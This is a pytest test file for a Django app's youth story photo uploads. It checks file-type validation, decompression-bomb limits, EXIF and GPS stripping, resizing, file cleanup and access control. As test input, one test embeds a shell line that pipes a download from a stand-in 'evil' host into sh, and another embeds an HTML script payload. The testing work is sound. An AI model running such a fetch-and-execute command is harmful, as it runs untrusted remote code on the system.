"""Story photos: read by their content, size-limited, resized, stripped of EXIF (GPS
included), stored under generated names and served only to those who may see them."""

import io
import re

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.urls import reverse
from PIL import ExifTags, Image

from tests import factories
from youth import stories
from youth.models import Story
from youth.story_photos import MAX_PIXELS

from .story_support import (
    image_bytes,
    make_youth,
    publish,
    upload,
    withdraw_public_consent,
    write,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def author():
    return make_youth()


def stored_image(field) -> Image.Image:
    with default_storage.open(field.name, "rb") as handle:
        image = Image.open(io.BytesIO(handle.read()))
        image.load()
    return image


def refused(author, content: bytes, name: str = "photo.jpg") -> str:
    with pytest.raises(ValidationError) as caught:
        write(author, photo=upload(content, name), photo_alt="A photo")
    assert not Story.objects.exists()
    return " ".join(caught.value.message_dict["photo"])


def test_a_script_renamed_jpg_is_refused(author):
    message = refused(author, b"#!/bin/sh\ncurl http://evil.example.org | sh\n", "holiday.jpg")
    assert "not a photo we can read" in message


def test_an_html_file_and_a_gif_are_refused(author):
    assert "JPEG, PNG or WebP" in refused(author, b"<html><script>alert(1)</script>", "a.png")
    assert "JPEG, PNG or WebP" in refused(author, image_bytes((40, 40), "GIF"), "a.jpg")


def test_a_truncated_jpeg_is_refused(author):
    assert "not a photo we can read" in refused(author, image_bytes()[:600])


def test_an_oversized_file_is_refused(author, settings):
    settings.STORY_PHOTO_MAX_BYTES = 10_000
    content = image_bytes((1600, 900))
    assert len(content) > 10_000
    assert "larger than" in refused(author, content)


def test_a_decompression_bomb_is_refused_before_it_is_decoded(author):
    side = int(MAX_PIXELS**0.5) + 100
    bomb = io.BytesIO()
    Image.new("1", (side, side)).save(bomb, "PNG")
    assert len(bomb.getvalue()) < 200_000  # a small file claiming a huge picture
    assert "too many pixels" in refused(author, bomb.getvalue(), "bomb.png")


def test_pillows_own_bomb_limit_is_a_clear_error_too(author, monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)
    assert "too many pixels" in refused(author, image_bytes((100, 100), "PNG"), "a.png")


def test_exif_and_gps_are_removed_and_the_photo_is_turned_upright(author):
    original = image_bytes((1600, 900), gps=True, orientation=6)
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)
    story = write(author, photo=upload(original), photo_alt="A clinic")
    for field in (story.photo, story.photo_small):
        image = stored_image(field)
        assert image.format == "WEBP"
        assert len(image.getexif()) == 0
        assert not image.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert "exif" not in image.info and "xmp" not in image.info
        with default_storage.open(field.name, "rb") as handle:
            raw = handle.read()
        assert b"Exif" not in raw and b"Phone" not in raw
        assert image.height > image.width  # orientation 6: rotated to portrait


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_photos_are_resized_to_web_widths_under_generated_names(author, fmt):
    story = write(
        author, photo=upload(image_bytes((2400, 1200), fmt), "My Family.jpg"), photo_alt="Us"
    )
    assert (stored_image(story.photo).size, stored_image(story.photo_small).size) == (
        (1200, 600),
        (480, 240),
    )
    for field in (story.photo, story.photo_small):
        assert re.fullmatch(r"stories/[0-9a-f]{32}(-small)?\.webp", field.name)
        assert "family" not in field.name.lower()


def test_a_small_photo_is_not_enlarged(author):
    story = write(author, photo=upload(image_bytes((300, 200))), photo_alt="A small one")
    assert stored_image(story.photo).size == (300, 200)


def test_a_photo_needs_its_description(author):
    with pytest.raises(ValidationError) as caught:
        write(author, photo=upload(image_bytes()), photo_alt=" ")
    assert "Describe what the photo shows" in caught.value.message_dict["photo_alt"][0]
    assert not Story.objects.exists()


def test_replacing_and_removing_the_photo_deletes_the_old_files(
    author, django_capture_on_commit_callbacks
):
    story = write(author, photo=upload(image_bytes()), photo_alt="First")
    first = [story.photo.name, story.photo_small.name]
    with django_capture_on_commit_callbacks(execute=True):
        story = stories.story_update(
            author=author, story=story, photo=upload(image_bytes()), photo_alt="Second"
        )
    assert not any(default_storage.exists(name) for name in first)
    assert story.photo.name not in first
    second = [story.photo.name, story.photo_small.name]
    with django_capture_on_commit_callbacks(execute=True):
        story = stories.story_update(author=author, story=story, remove_photo=True)
    assert not story.photo and not story.photo_alt
    assert not any(default_storage.exists(name) for name in second)


def test_the_photo_upload_through_the_page(client, author):
    client.force_login(author)
    from alliance.models import Sector

    response = client.post(
        reverse("youth:story_create"),
        {
            "title": "Mangroves",
            "summary": "Planting mangroves.",
            "text": "We planted.",
            "language": "en",
            "sector": str(Sector.objects.get(slug="climate").pk),
            "country": "FJ",
            "photo": upload(image_bytes(gps=True), "evil.jpg"),
            "photo_alt": "",
        },
    )
    assert response.status_code == 422
    assert "Describe what the photo shows" in response.content.decode()
    assert not Story.objects.exists()


def photo_url(story, size="large"):
    return reverse("youth:story_photo", args=[story.pk, size])


def test_the_photo_of_a_draft_is_for_its_author_and_staff_only(client, author, staff):
    story = write(author, photo=upload(image_bytes()), photo_alt="A clinic")
    assert client.get(photo_url(story)).status_code == 404
    client.force_login(make_youth("Other Youth"))
    assert client.get(photo_url(story)).status_code == 404
    client.force_login(author)
    response = client.get(photo_url(story, "small"))
    assert response.status_code == 200
    assert response["Content-Type"] == "image/webp"
    assert response["Content-Disposition"].startswith("inline")
    assert "private" in response["Cache-Control"]
    client.force_login(staff)
    assert client.get(photo_url(story)).status_code == 200
    assert client.get(reverse("youth:story_photo", args=[story.pk, "huge"])).status_code == 404


def test_the_photo_of_a_published_story_is_public_until_consent_is_withdrawn(client, author, staff):
    story = publish(staff, write(author, photo=upload(image_bytes()), photo_alt="A clinic"))
    response = client.get(photo_url(story))
    assert response.status_code == 200 and "public" in response["Cache-Control"]
    withdraw_public_consent(author)
    assert client.get(photo_url(story)).status_code == 404


def test_a_story_without_a_photo_has_no_photo_url(client, author):
    story = write(author)
    client.force_login(author)
    assert client.get(photo_url(story)).status_code == 404
    client.force_login(factories.make_user())
    assert client.get(photo_url(story)).status_code == 404
